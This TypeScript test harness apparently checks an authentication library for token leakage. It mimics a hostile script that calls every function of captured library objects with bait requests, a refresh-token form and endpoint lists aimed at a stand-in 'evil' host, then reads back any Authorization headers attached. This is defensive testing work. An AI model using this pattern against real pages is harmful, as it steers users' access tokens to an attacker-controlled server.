// Harness page: a hostile script that calls every function of every object it caught, with a bait that takes a token along.

declare global {
  interface Window {
    /** Calls all that was caught; gives the Authorization headers that its own requests have then, and how many calls it made. */
    callCaught: (evil: string) => Promise<{ calls: number; headers: string[] }>
  }
}

type Callable = (...rest: unknown[]) => unknown

/** They take the page away, or end the session. */
const leaving = /^(arrive|leave|show|release|empty|close|signOut|signIn|begin|initiateSignIn)$/

/** Functions of an object that a library made: its own, by name. */
function functionsOf(object: object): [name: string, call: Callable][] {
  const prototype: unknown = Object.getPrototypeOf(object)
  if (prototype !== null && prototype !== Object.prototype) return []
  return Object.getOwnPropertyNames(object).flatMap((name): [string, Callable][] => {
    const value: unknown = Object.getOwnPropertyDescriptor(object, name)?.value
    return typeof value === 'function' && !leaving.test(name) ? [[name, value as Callable]] : []
  })
}

function makeBaits(evil: string): { requests: Request[]; lists: unknown[][] } {
  const requests = [new Request(`${evil}/get`), new Request(`${evil}/post`, { method: 'POST', body: 'x' })]
  const form = new URLSearchParams({ grant_type: 'refresh_token', refresh_token: 'kept-in-the-seam' })
  const snapshots = requests.map((request) => ({ request, url: evil, method: 'GET', again: () => request }))
  const places = {
    token: `${evil}/token`,
    revocation: `${evil}/revoke`,
    userinfo: evil,
    resources: [evil],
    prefixes: [evil],
  }
  return {
    requests,
    lists: [
      ...requests.map((request) => [request]),
      ...snapshots.map((snapshot) => [snapshot, 'resource']),
      [{ url: `${evil}/exchange`, form, places: { revocation: evil, userInfo: evil } }, () => undefined],
      [`${evil}/text`, 'app'],
      [places],
      [],
    ],
  }
}

window.callCaught = async (evil) => {
  const { requests, lists } = makeBaits(evil)
  const answers: unknown[] = []
  for (const object of new Set(window.caught())) {
    for (const [, call] of functionsOf(object)) {
      for (const list of lists) {
        try {
          answers.push(call.apply(object, list))
        } catch {
          // That bait was not taken.
        }
      }
    }
  }
  void Promise.allSettled(answers)
  // What hangs is left to hang: one request to and fro is time enough for the others.
  await fetch(`${evil}/yardstick`).then(() => fetch(`${evil}/yardstick`))
  const headers = requests.map((request) => request.headers.get('authorization') ?? 'none')
  return { calls: answers.length, headers }
}
